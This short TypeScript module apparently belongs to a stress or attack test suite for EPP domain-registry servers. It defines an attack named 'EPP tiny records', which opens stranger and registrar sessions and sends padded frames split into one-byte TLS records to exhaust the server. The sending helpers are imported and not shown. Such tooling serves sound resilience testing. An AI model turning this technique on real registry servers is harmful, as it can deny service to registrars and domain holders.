import { framed } from '../epp.ts';
import type { Attack } from './attack.ts';
import { loginOf, SESSIONS } from './epp-sessions.ts';
import { RECORDS, sendTinyRecords } from './tiny-records.ts';

/** Connections of strangers and all sessions of a registrar, which send frames in TLS records of one byte. */
export const eppTinyRecords: Attack = {
  name: 'EPP tiny records',
  start: ({ eppPort = 0, credentials: { registrar = '' } = {} }) => {
    const [login, frame] = [framed(loginOf(registrar)), framed(' '.repeat(RECORDS))];
    return sendTinyRecords(eppPort, ({ socket, sendInRecords }, index) => {
      let answers = 0;
      socket.on('data', () => {
        answers += 1;
        if (answers === 1 && index < SESSIONS) socket.write(login);
        else sendInRecords(frame);
      });
    });
  },
};
